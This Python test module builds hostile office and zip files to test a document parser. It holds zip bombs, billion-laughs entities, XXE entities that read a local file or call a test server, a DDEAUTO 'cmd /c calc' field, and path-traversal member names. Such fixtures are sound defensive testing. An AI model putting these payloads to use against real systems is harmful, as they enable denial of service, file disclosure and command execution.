"""Hostile packages: Word, OpenDocument, Excel, PowerPoint and plain archives."""

import bz2
import zlib
from dataclasses import replace

from tests.hostile import zipping
from tests.hostile.making import Scene, one_file
from tests.hostile.zipping import Entry, archive, bomb, deflated, stored

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
SENTENCE = "The ferries ran all winter, and nobody on the quay had thought it possible."
OVER_PART = 80_000_000
"""More than one part of a package may have."""


def rels(*targets: tuple[str, str, str]) -> str:
    """Return relationships: (type, target, mode)."""
    lines = (
        f'<Relationship Id="r{number}" Type="{kind}" Target="{target}"{mode and f" TargetMode={mode!r}"}/>'
        for number, (kind, target, mode) in enumerate(targets, start=1)
    )
    return f'{HEAD}<Relationships xmlns="{PACKAGE}">{"".join(lines)}</Relationships>'


def types(part: str, content_type: str) -> str:
    return (
        f'{HEAD}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{content_type}"/></Types>'
    )


WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
SLIDES_TYPE = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"


def frame(part: str, content_type: str) -> list[Entry]:
    """Return what a package of Office needs besides its parts."""
    return [
        deflated("[Content_Types].xml", types(part, content_type).encode()),
        deflated("_rels/.rels", rels((f"{OFFICE}/officeDocument", part, "")).encode()),
    ]


def body(inner: str, doctype: str = "") -> bytes:
    return f"{HEAD}{doctype}<w:document {W}><w:body>{inner}</w:body></w:document>".encode()


def paragraph(text: str = SENTENCE) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def word(document: bytes | Entry, *others: Entry) -> bytes:
    """Return a Word package with this main part."""
    main = document if isinstance(document, Entry) else deflated("word/document.xml", document)
    return archive([*frame("word/document.xml", WORD_TYPE), main, *others])


def laughs(word: str = "ferry", depth: int = 9) -> str:
    """Return a DTD whose last entity unfolds to ten to the power of `depth` words."""
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, depth + 1))
    return f'<!DOCTYPE w [<!ENTITY e0 "{word} ">{entities}]>'


def reads(target: str) -> str:
    """Return a DTD whose entity `x` stands for what lies at `target`."""
    return f'<!DOCTYPE w [<!ENTITY x SYSTEM "{target}">]>'


@one_file(".docx")
def docx_bomb(scene: Scene) -> bytes:
    size = scene.sized(OVER_PART, 1_000_000_000)
    return word(bomb("word/document.xml", size, body(paragraph())[:-22], b"</w:body></w:document>"))


@one_file(".docx")
def docx_bomb_of_text(scene: Scene) -> bytes:
    size = scene.sized(40_000_000, 60_000_000)
    return word(bomb("word/document.xml", size, body("")[:-22], b"</w:body></w:document>", paragraph().encode()))


@one_file(".docx")
def docx_bomb_in_styles(scene: Scene) -> bytes:
    link = rels((f"{OFFICE}/styles", "styles.xml", ""))
    return word(
        body(paragraph()), deflated("word/_rels/document.xml.rels", link.encode()), bomb("word/styles.xml", OVER_PART)
    )


@one_file(".docx")
def docx_bomb_beside(scene: Scene) -> bytes:
    return word(
        body(paragraph()), bomb("word/media/image1.png", scene.sized(100_000_000, 2_000_000_000), filling=b"\0")
    )


@one_file(".docx")
def docx_of_too_many_parts(scene: Scene) -> bytes:
    return word(body(paragraph()), *(stored(f"word/p{n}.xml", b"<a/>") for n in range(scene.sized(6_000, 60_000))))


@one_file(".docx")
def docx_that_says_it_is_small(scene: Scene) -> bytes:
    return word(zipping.lying(bomb("word/document.xml", OVER_PART), 10))


@one_file(".docx")
def docx_that_says_it_is_huge(scene: Scene) -> bytes:
    return word(zipping.lying(deflated("word/document.xml", body(paragraph())), 0xFFFFFFF0))


@one_file(".docx")
def docx_with_a_wrong_checksum(scene: Scene) -> bytes:
    return word(replace(deflated("word/document.xml", body(paragraph())), crc=1))


@one_file(".docx")
def docx_of_overlapping_parts(scene: Scene) -> bytes:
    first = bomb("word/document.xml", 30_000_000, filling=b"<a/>")
    return archive([first, *(replace(first, name=f"word/{n}.xml".encode(), offset=0) for n in range(500))])


@one_file(".docx")
def docx_with_two_documents(scene: Scene) -> bytes:
    return word(body(paragraph("The first one.")), deflated("word/document.xml", body(paragraph("The second one."))))


@one_file(".docx")
def docx_with_a_locked_part(scene: Scene) -> bytes:
    return word(replace(deflated("word/document.xml", body(paragraph())), flags=0x801))


@one_file(".docx")
def docx_packed_in_an_unknown_way(scene: Scene) -> bytes:
    return word(replace(deflated("word/document.xml", body(paragraph())), method=99))


@one_file(".docx")
def docx_bomb_in_bzip2(scene: Scene) -> bytes:
    data = bytes(OVER_PART)
    return word(Entry(b"word/document.xml", bz2.compress(data), 12, size=len(data), crc=zlib.crc32(data)))


@one_file(".docx")
def docx_cut_in_half(scene: Scene) -> bytes:
    whole = word(body(paragraph() * 500))
    return whole[: len(whole) // 2]


@one_file(".docx")
def docx_with_a_damaged_stream(scene: Scene) -> bytes:
    entry = deflated("word/document.xml", body(paragraph() * 50))
    return word(replace(entry, raw=entry.raw[:40] + bytes(40) + entry.raw[80:]))


@one_file(".docx")
def docx_without_its_document(scene: Scene) -> bytes:
    return archive(frame("word/document.xml", WORD_TYPE))


@one_file(".docx")
def docx_with_an_empty_document(scene: Scene) -> bytes:
    return word(b"")


@one_file(".docx")
def docx_of_noise(scene: Scene) -> bytes:
    return word(bytes(n * 37 % 256 for n in range(50_000)))


@one_file(".docx")
def docx_nested_deeply(scene: Scene) -> bytes:
    depth = 100_000
    return word(body("<w:sdt>" * depth + paragraph() + "</w:sdt>" * depth))


@one_file(".docx")
def docx_of_tables_in_tables(scene: Scene) -> bytes:
    depth = 4_000
    opened, closed = "<w:tbl><w:tr><w:tc>", f"{paragraph()}</w:tc></w:tr></w:tbl>"
    return word(body(opened * depth + closed * depth))


@one_file(".docx")
def docx_with_entities(scene: Scene) -> bytes:
    return word(body(paragraph("&e9;"), laughs()))


@one_file(".docx")
def docx_that_reads_a_file(scene: Scene) -> bytes:
    return word(body(paragraph("&x;"), reads(scene.canary.as_uri())))


@one_file(".docx")
def docx_that_calls_home(scene: Scene) -> bytes:
    return word(body(paragraph("&x;"), reads(f"{scene.url}/docx")))


@one_file(".docx")
def docx_with_a_remote_dtd(scene: Scene) -> bytes:
    return word(body(paragraph(), f'<!DOCTYPE w SYSTEM "{scene.url}/w.dtd">'))


@one_file(".docx")
def docx_with_remote_parts(scene: Scene) -> bytes:
    links = rels(
        (f"{OFFICE}/attachedTemplate", f"{scene.url}/template.dotm", "External"),
        (f"{OFFICE}/image", f"{scene.url}/picture.png", "External"),
        (f"{OFFICE}/subDocument", scene.canary.as_uri(), "External"),
        (f"{OFFICE}/aFChunk", scene.canary.as_uri(), "External"),
    )
    chunk = '<w:altChunk xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="r4"/>'
    return word(body(paragraph() + chunk), deflated("word/_rels/document.xml.rels", links.encode()))


@one_file(".docx")
def docx_that_includes_by_field(scene: Scene) -> bytes:
    code = f'INCLUDETEXT "{scene.canary}" DDEAUTO cmd "/c calc"'
    return word(body(f"<w:p><w:fldSimple w:instr='{code}'><w:r><w:t>Shown text of it.</w:t></w:r></w:fldSimple></w:p>"))


@one_file(".docx")
def docx_of_many_attributes(scene: Scene) -> bytes:
    return word(body(f"<w:p {' '.join(f'w:a{n}=' + chr(34) + chr(34) for n in range(200_000))}/>" + paragraph()))


@one_file(".docx")
def docx_with_a_giant_attribute(scene: Scene) -> bytes:
    return word(body(f'<w:p w:rsidR="{"0" * 12_000_000}"/>{paragraph()}'))


@one_file(".docx")
def docx_of_many_runs(scene: Scene) -> bytes:
    return word(body(f"<w:p>{'<w:r><w:t>a</w:t></w:r>' * 300_000}</w:p>"))


@one_file(".docx")
def docx_of_many_paragraphs(scene: Scene) -> bytes:
    return word(body(paragraph("a b") * scene.sized(100_000, 1_000_000)))


@one_file(".docx")
def docx_in_utf_16(scene: Scene) -> bytes:
    return word(body(paragraph()).decode().replace("UTF-8", "UTF-16").encode("utf-16"))


@one_file(".docx")
def docx_in_an_encoding_of_its_own(scene: Scene) -> bytes:
    return word(body(paragraph()).replace(b"UTF-8", b"x-klingon"))


@one_file(".docx")
def docx_with_characters_that_are_none(scene: Scene) -> bytes:
    return word(body(paragraph("a&#0;b&#xFFFE;c&#xD800;d")))


@one_file(".docx")
def docx_with_names_that_climb(scene: Scene) -> bytes:
    names = ("../../../../escaped.txt", "/etc/escaped.txt", "C:\\escaped.txt", "word\\..\\..\\escaped.xml", "a\0b.xml")
    return word(body(paragraph()), *(stored(name, b"escaped") for name in names))


@one_file(".docx")
def docx_with_styles_in_a_circle(scene: Scene) -> bytes:
    styles = "".join(
        f'<w:style w:type="paragraph" w:styleId="S{n}"><w:basedOn w:val="S{(n + 1) % 3}"/></w:style>' for n in range(3)
    )
    link = rels((f"{OFFICE}/styles", "styles.xml", ""))
    text = f'<w:p><w:pPr><w:pStyle w:val="S0"/></w:pPr><w:r><w:t>{SENTENCE}</w:t></w:r></w:p>'
    return word(
        body(text),
        deflated("word/_rels/document.xml.rels", link.encode()),
        deflated("word/styles.xml", f"{HEAD}<w:styles {W}>{styles}</w:styles>".encode()),
    )


@one_file(".docx")
def docx_with_numbers_out_of_bounds(scene: Scene) -> bytes:
    cell = f'<w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>{paragraph()}</w:tc>'
    numbering = '<w:numPr><w:ilvl w:val="99999999999999999999"/><w:numId w:val="-5"/></w:numPr>'
    text = f'<w:p><w:pPr>{numbering}<w:outlineLvl w:val="many"/></w:pPr><w:r><w:t>{SENTENCE}</w:t></w:r></w:p>'
    return word(body(f"<w:tbl><w:tr>{cell * 20}</w:tr></w:tbl>{text}"))


@one_file(".docx")
def docx_with_its_directory_cut_off(scene: Scene) -> bytes:
    return word(body(paragraph()))[:-40]


@one_file(".docx")
def docx_with_a_comment_of_directories(scene: Scene) -> bytes:
    return archive([stored("a", b"a")], comment=b"PK\x05\x06" * 16_000)


@one_file(".docm")
def docm_with_a_macro(scene: Scene) -> bytes:
    return word(body(paragraph()), deflated("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"AutoOpen Shell" * 500))


ODT = "application/vnd.oasis.opendocument.text"
ODF = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"'
)


def odf(inner: str, doctype: str = "") -> bytes:
    opening = f"{HEAD}{doctype}<office:document-content {ODF}><office:body><office:text>"
    return f"{opening}{inner}</office:text></office:body></office:document-content>".encode()


def odt(content: bytes | Entry, *others: Entry) -> bytes:
    main = content if isinstance(content, Entry) else deflated("content.xml", content)
    return archive([stored("mimetype", ODT.encode()), main, *others])


def odf_paragraph(text: str = SENTENCE) -> str:
    return f"<text:p>{text}</text:p>"


@one_file(".odt")
def odt_bomb(scene: Scene) -> bytes:
    return odt(bomb("content.xml", scene.sized(OVER_PART, 1_000_000_000)))


@one_file(".odt")
def odt_of_endless_columns(scene: Scene) -> bytes:
    cell = f'<table:table-cell table:number-columns-repeated="2000000000">{odf_paragraph()}</table:table-cell>'
    row = f'<table:table-row table:number-rows-repeated="2000000000">{cell}</table:table-row>'
    return odt(odf(f"<table:table>{row}</table:table>"))


@one_file(".odt")
def odt_of_endless_blanks(scene: Scene) -> bytes:
    return odt(odf(odf_paragraph(f'{SENTENCE}<text:s text:c="2000000000"/>and so on')))


@one_file(".odt")
def odt_that_reads_a_file(scene: Scene) -> bytes:
    return odt(odf(odf_paragraph("&x;"), reads(scene.canary.as_uri())))


@one_file(".odt")
def odt_with_entities(scene: Scene) -> bytes:
    return odt(odf(odf_paragraph("&e9;"), laughs()))


@one_file(".odt")
def odt_of_lists_in_lists(scene: Scene) -> bytes:
    depth = 50_000
    return odt(odf("<text:list><text:list-item>" * depth + odf_paragraph() + "</text:list-item></text:list>" * depth))


@one_file(".odt")
def odt_of_nested_spans(scene: Scene) -> bytes:
    depth = 20_000
    return odt(odf(odf_paragraph("<text:span>a" * depth + "</text:span>" * depth)))


@one_file(".odt")
def odt_with_a_password(scene: Scene) -> bytes:
    manifest = (
        '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry '
        'manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry></manifest:manifest>'
    )
    return odt(bytes(n * 91 % 256 for n in range(4_000)), deflated("META-INF/manifest.xml", manifest.encode()))


@one_file(".fodt")
def fodt_with_entities(scene: Scene) -> bytes:
    text = "<office:body><office:text>&e9;</office:text></office:body>"
    return f"{HEAD}{laughs()}<office:document {ODF}>{text}</office:document>".encode()


SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def xlsx(sheet: bytes | Entry, strings: bytes | Entry | None = None) -> bytes:
    sheets = '<sheets><sheet name="A" sheetId="1" r:id="r1"/></sheets>'
    workbook = f'{HEAD}<workbook xmlns="{SHEET}" xmlns:r="{OFFICE}">{sheets}</workbook>'
    links = rels(
        (f"{OFFICE}/worksheet", "worksheets/sheet1.xml", ""), (f"{OFFICE}/sharedStrings", "sharedStrings.xml", "")
    )
    entries = [
        *frame("xl/workbook.xml", SHEET_TYPE),
        deflated("xl/workbook.xml", workbook.encode()),
        deflated("xl/_rels/workbook.xml.rels", links.encode()),
        sheet if isinstance(sheet, Entry) else deflated("xl/worksheets/sheet1.xml", sheet),
    ]
    if strings is not None:
        entries.append(strings if isinstance(strings, Entry) else deflated("xl/sharedStrings.xml", strings))
    return archive(entries)


def sheet(rows: str, dimension: str = "A1:B2", doctype: str = "") -> bytes:
    opening = f'{HEAD}{doctype}<worksheet xmlns="{SHEET}"><dimension ref="{dimension}"/>'
    return f"{opening}<sheetData>{rows}</sheetData></worksheet>".encode()


def cell(at: str, text: str = SENTENCE) -> str:
    return f'<c r="{at}" t="inlineStr"><is><t>{text}</t></is></c>'


@one_file(".xlsx")
def xlsx_bomb(scene: Scene) -> bytes:
    return xlsx(bomb("xl/worksheets/sheet1.xml", scene.sized(OVER_PART, 1_000_000_000)))


@one_file(".xlsx")
def xlsx_bomb_of_strings(scene: Scene) -> bytes:
    entry = bomb("xl/sharedStrings.xml", 60_000_000, f'<sst xmlns="{SHEET}">'.encode(), b"</sst>", b"<si><t>a</t></si>")
    return xlsx(sheet('<row r="1"><c r="A1" t="s"><v>1</v></c></row>'), entry)


@one_file(".xlsx")
def xlsx_that_says_it_is_boundless(scene: Scene) -> bytes:
    return xlsx(sheet(f'<row r="1048576">{cell("XFD1048576")}</row>', "A1:XFD1048576"))


@one_file(".xlsx")
def xlsx_with_cells_far_apart(scene: Scene) -> bytes:
    rows = "".join(f'<row r="{n}">{cell(f"A{n}", "a")}{cell(f"XFD{n}", "b")}</row>' for n in range(1, 3_000))
    return xlsx(sheet(rows, "A1:XFD3000"))


@one_file(".xlsx")
def xlsx_with_rows_beyond_the_last(scene: Scene) -> bytes:
    return xlsx(sheet(f'<row r="99999999999">{cell("ZZZZZZ99999999999")}</row><row r="-1">{cell("A-1")}</row>'))


@one_file(".xlsx")
def xlsx_with_strings_that_are_not_there(scene: Scene) -> bytes:
    return xlsx(sheet('<row r="1"><c r="A1" t="s"><v>999999999</v></c><c r="B1" t="s"><v>x</v></c></row>'))


@one_file(".xlsx")
def xlsx_that_reads_a_file(scene: Scene) -> bytes:
    return xlsx(sheet(f'<row r="1">{cell("A1", "&x;")}</row>', doctype=reads(scene.canary.as_uri())))


@one_file(".xlsx")
def xlsx_with_entities(scene: Scene) -> bytes:
    return xlsx(sheet(f'<row r="1">{cell("A1", "&e9;")}</row>', doctype=laughs()))


@one_file(".xlsx")
def xlsx_with_dates_out_of_time(scene: Scene) -> bytes:
    numbers = ("1e308", "-99999999", "NaN", "inf", "0", "2958466", "9" * 400)
    cells = "".join(f'<c r="{chr(65 + n)}1" s="1"><v>{number}</v></c>' for n, number in enumerate(numbers))
    return xlsx(sheet(f'<row r="1">{cells}</row>'))


def pptx(slides: int, slide: bytes, *others: Entry) -> bytes:
    ids = "".join(f'<p:sldId id="{256 + n}" r:id="r{n + 1}"/>' for n in range(slides))
    main = (
        f'{HEAD}<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
        f'xmlns:r="{OFFICE}"><p:sldIdLst>{ids}</p:sldIdLst></p:presentation>'
    )
    links = rels(*((f"{OFFICE}/slide", f"slides/slide{n + 1}.xml", "") for n in range(slides)))
    return archive(
        [
            *frame("ppt/presentation.xml", SLIDES_TYPE),
            deflated("ppt/presentation.xml", main.encode()),
            deflated("ppt/_rels/presentation.xml.rels", links.encode()),
            *(deflated(f"ppt/slides/slide{n + 1}.xml", slide) for n in range(slides)),
            *others,
        ]
    )


def slide(inner: str, doctype: str = "") -> bytes:
    return (
        f'{HEAD}{doctype}<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" '
        'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><p:cSld><p:spTree>'
        f"{inner}</p:spTree></p:cSld></p:sld>"
    ).encode()


def box(text: str = SENTENCE) -> str:
    return f"<p:sp><p:txBody><a:p><a:r><a:t>{text}</a:t></a:r></a:p></p:txBody></p:sp>"


@one_file(".pptx")
def pptx_of_very_many_slides(scene: Scene) -> bytes:
    return pptx(3_000, slide(box()))


@one_file(".pptx")
def pptx_that_reads_a_file(scene: Scene) -> bytes:
    return pptx(1, slide(box("&x;"), reads(scene.canary.as_uri())))


@one_file(".pptx")
def pptx_with_groups_in_groups(scene: Scene) -> bytes:
    return pptx(1, slide("<p:grpSp>" * 50_000 + box() + "</p:grpSp>" * 50_000))


@one_file(".pptx")
def pptx_whose_slides_point_at_themselves(scene: Scene) -> bytes:
    links = rels((f"{OFFICE}/notesSlide", "slide1.xml", ""), (f"{OFFICE}/slide", "../presentation.xml", ""))
    return pptx(1, slide(box()), deflated("ppt/slides/_rels/slide1.xml.rels", links.encode()))


@one_file(".pptx")
def pptx_bomb(scene: Scene) -> bytes:
    return pptx(1, slide(box()), bomb("ppt/slides/slide1.xml", OVER_PART))


@one_file(".zip")
def zip_of_zips_of_zips(scene: Scene) -> bytes:
    inner = archive([deflated("a.txt", SENTENCE.encode())])
    for depth in range(30):
        inner = archive([deflated(f"{depth}.zip", inner), deflated(f"{depth}.txt", SENTENCE.encode())])
    return inner


@one_file(".zip")
def zip_bomb_of_zips(scene: Scene) -> bytes:
    inner = archive([bomb("a.txt", 20_000_000, filling=b"ferry ")])
    for _ in range(3):
        inner = archive([deflated(f"{n}.zip", inner) for n in range(16)])
    return inner


@one_file(".zip")
def zip_bomb(scene: Scene) -> bytes:
    return archive([bomb(f"{n}.txt", scene.sized(OVER_PART, 500_000_000)) for n in range(scene.sized(2, 4))])


@one_file(".zip")
def zip_of_overlapping_members(scene: Scene) -> bytes:
    first = bomb("0.txt", 10_000_000, filling=b"The ferries ran all winter. ")
    return archive([first, *(replace(first, name=f"{n}.txt".encode(), offset=0) for n in range(1, 400))])


@one_file(".zip")
def zip_of_too_many_members(scene: Scene) -> bytes:
    return archive([stored(f"{n}.txt", b"a") for n in range(scene.sized(6_000, 60_000))])


@one_file(".zip")
def zip_that_climbs(scene: Scene) -> bytes:
    names = (
        "../../up.txt",
        "/abs.txt",
        "C:/drive.txt",
        "\\\\server\\share.txt",
        "a/../../b.txt",
        "",
        ".",
        "..",
        "a//b.txt",
    )
    return archive([stored(name, f"{SENTENCE} {name}".encode()) for name in names])


@one_file(".zip")
def zip_with_a_link(scene: Scene) -> bytes:
    return archive(
        [replace(stored("link.txt", str(scene.canary).encode()), mode=0o120777), stored("a.txt", SENTENCE.encode())]
    )


@one_file(".zip")
def zip_with_a_password(scene: Scene) -> bytes:
    return archive(
        [replace(stored("a.txt", SENTENCE.encode()), flags=0x801), replace(stored("b.docx", b"x"), flags=0x801)]
    )


@one_file(".zip")
def zip_with_strange_names(scene: Scene) -> bytes:
    names = (
        b"caf\xe9.txt",
        b"new\nline.txt",
        b"nul\0.txt",
        b"CON.txt",
        b"a" * 60_000 + b".txt",
        b"\xff\xfe.txt",
        "\u202egnp.txt".encode(),
    )
    return archive([replace(stored("x", SENTENCE.encode()), name=name, flags=0) for name in names])


@one_file(".zip")
def zip_with_nothing(scene: Scene) -> bytes:
    return archive([])


@one_file(".zip")
def zip_with_the_same_name_often(scene: Scene) -> bytes:
    return archive([stored("same.txt", f"{SENTENCE} {n}".encode()) for n in range(50)])


@one_file(".zip")
def zip_that_says_it_is_longer(scene: Scene) -> bytes:
    return archive([stored("a.txt", SENTENCE.encode())])[:-22] + b"PK\x05\x06" + b"\xff" * 18


@one_file(".zip")
def zip_of_all_that_is_bad(scene: Scene) -> bytes:
    return archive(
        [
            stored("bomb.docx", docx_bomb(scene)),
            stored("reads.docx", docx_that_reads_a_file(scene)),
            stored("half.docx", docx_cut_in_half(scene)),
            stored("good.txt", SENTENCE.encode()),
            stored("noise.pdf", bytes(range(256)) * 20),
        ]
    )
